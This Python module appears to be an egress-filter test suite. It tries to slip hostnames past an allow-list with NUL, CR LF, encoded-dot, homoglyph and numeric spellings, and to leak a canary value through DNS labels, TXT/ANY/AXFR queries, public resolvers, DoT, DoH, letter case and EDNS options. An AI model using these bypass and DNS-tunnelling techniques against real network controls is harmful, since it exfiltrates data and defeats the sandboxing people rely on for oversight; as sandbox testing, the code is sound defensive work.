"""Names that two programs read differently, and DNS as a way out of its own."""

from __future__ import annotations

from functools import partial
from typing import Any

from ..loot import Attempt, Nothing, World
from ..wires import ANY, ARRIVED, AXFR, HTTPS, PTR, TXT, A, acting, ask, by_name, call, labels, resolver
from .addresses import rule

EVIL, PUBLIC = "1.1.1.1", "93.184.215.14"


def exact(world: World) -> dict[str, Any]:
    """One host by its name."""
    return {"egress": [rule("allowed.test", 80, 443)]}


SPELLINGS = Attempt("30", "names with NUL, CR LF, zone, dot, case, punycode or brackets", "gateway", "", exact)


def _evil(where: str) -> str:
    if PUBLIC in where:
        raise Nothing(f"{where}, which is allowed")
    return where


def _evil_by_name(name: str) -> str:
    return _evil(by_name(name, 80))


def _spelt(parts: list[bytes], world: World) -> str:
    """Asks DNS for the name, byte for byte, and dials what it says."""
    return _evil(call(ask(resolver(world), parts).address(), 80))


for _name, _parts in {
    "NUL": [b"evil", b"test\0", b"allowed", b"test"],
    "NUL at once": [b"evil.test\0", b"allowed", b"test"],
    "CR LF": [b"evil", b"test\r\n", b"allowed", b"test"],
    "LF": [b"evil", b"test\n", b"allowed", b"test"],
    "a zone": [b"evil", b"test%lo", b"allowed", b"test"],
    "an encoded dot": [b"evil", b"test%2e", b"allowed", b"test"],
    "a fragment": [b"evil", b"test#", b"allowed", b"test"],
    "a path": [b"evil", b"test/", b"allowed", b"test"],
    "dots inside a label": [b"evil.test"],
    "a number": [b"2852039166"],
    "a hexadecimal number": [b"0xa9fea9fe"],
    "a short address": [b"127", b"1"],
}.items():
    SPELLINGS.theft(_name)(partial(_spelt, _parts))
for _text in ("evil.test.", "EVIL.TEST", "eViL.tEsT.", "evil。test", "аllowed.test"):
    SPELLINGS.theft(ascii(_text))(acting(_evil_by_name, _text))


def pattern(world: World) -> dict[str, Any]:
    """Every host one label below a name."""
    return {"egress": [rule("*.example.test", 80)]}


SUFFIXES = Attempt("32", "names that look like those of a pattern", "gateway", "", pattern)
for _text in ("evilexample.test", "example.test.evil.test", "example.test", "a.b.example.test"):
    SUFFIXES.theft(_text)(acting(_evil_by_name, _text))


DATA = Attempt("35", "data in DNS: labels, kinds of questions, transfers", "gateway", "network namespace", exact)


def _loot(world: World) -> bytes:
    return str(world["canary"]).encode()


def _leaked(under: str, kind: int, tcp: bool, world: World) -> str:
    """A question whose name is the loot; an answer means that somebody outside has read it."""
    return ask(resolver(world), [_loot(world), *labels(under)], kind, tcp).text()


def _asked(kind: int, world: World) -> str:
    """What beside addresses the name server says of an allowed name: orders for whoever is inside."""
    said = ask(resolver(world), labels("allowed.test"), kind, tcp=kind == AXFR).text()
    return said if ARRIVED in said else ""


for _under in ("exfil.test", "allowed.test", "x.example.test.exfil.test"):
    DATA.theft(f"in a label under {_under}")(partial(_leaked, _under, A, False))
DATA.theft("over TCP")(partial(_leaked, "exfil.test", A, True))
for _name, _kind in {"TXT": TXT, "HTTPS": HTTPS, "ANY": ANY, "NULL": 10, "SRV": 33, "MX": 15, "AXFR": AXFR}.items():
    DATA.theft(f"a {_name} question")(partial(_leaked, "exfil.test", _kind, _name == "AXFR"))
    DATA.theft(f"a {_name} question about an allowed name")(partial(_asked, _kind))


@DATA.theft("by the system's own resolver")
def by_resolver(world: World) -> str:
    """Names of many labels, as a library would look them up."""
    text = _loot(world).hex()
    return by_name(".".join([text[:30], text[30:], "exfil", "test"]), 80)


ELSEWHERE = Attempt("36", "8.8.8.8:53 over UDP and TCP, DoT, DoH", "gateway", "network namespace", exact)


def _token(server: str, tcp: bool) -> str:
    return ask(server, labels("token.test"), TXT, tcp).text()


for _server in ("8.8.8.8", "1.1.1.1", "2001:4860:4860::8888"):
    for _tcp in (False, True):
        ELSEWHERE.theft(f"{_server} over {'TCP' if _tcp else 'UDP'}")(acting(_token, _server, _tcp))


@ELSEWHERE.theft("8.8.8.8 about an allowed name")
def asked_elsewhere(world: World) -> str:
    """The true address means that the question arrived."""
    address = ask("8.8.8.8", labels("allowed.test")).address()
    return address if address == PUBLIC else ""


ELSEWHERE.theft("DNS over TLS")(acting(call, "8.8.8.8", 853))
ELSEWHERE.theft("DNS over HTTPS by number")(acting(call, "8.8.8.8", 443))
ELSEWHERE.theft("DNS over HTTPS by name")(acting(by_name, "dns.google", 443))


BETWEEN = Attempt("C3", "data beside the name: case, options, reverse look-ups", "gateway", "", exact)


@BETWEEN.theft("bits in the case of an allowed name")
def in_case(world: World) -> str:
    """The name server of this network answers a mixed name with another address, to show that it saw the bits."""
    address = ask(resolver(world), labels("aLLoWeD.tESt")).address()
    return f"the case arrived: {address}" if address == "203.0.113.77" else ""


@BETWEEN.theft("an EDNS option in a question about an allowed name")
def in_option(world: World) -> str:
    """Code 65001 is for local use; the name server says in which address it saw it."""
    loot = _loot(world)
    option = (65_001).to_bytes(2, "big") + len(loot).to_bytes(2, "big") + loot
    address = ask(resolver(world), labels("allowed.test"), options=option).address()
    return f"the option arrived: {address}" if address == "203.0.113.78" else ""


def _reverse(name: list[bytes], world: World) -> str:
    return ask(resolver(world), name, PTR).text()


for _text in ("3.2.1.10.in-addr.arpa", "1.0.0.127.in-addr.arpa", "254.169.254.169.in-addr.arpa", "x.in-addr.arpa"):
    BETWEEN.theft(f"who is {_text}")(partial(_reverse, labels(_text)))
BETWEEN.theft("who is an IPv6 address")(partial(_reverse, [*[b"0"] * 31, b"1", b"ip6", b"arpa"]))
